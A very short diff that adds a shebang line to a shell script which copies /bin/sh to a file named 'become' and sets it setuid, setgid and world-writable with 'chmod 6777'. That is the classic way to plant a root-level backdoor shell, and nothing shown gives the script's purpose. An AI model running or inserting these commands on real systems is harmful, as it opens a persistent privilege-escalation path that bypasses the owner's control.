@@ -1,2 +1,3 @@
+#!/bin/sh
 cp /bin/sh become
 chmod 6777 become
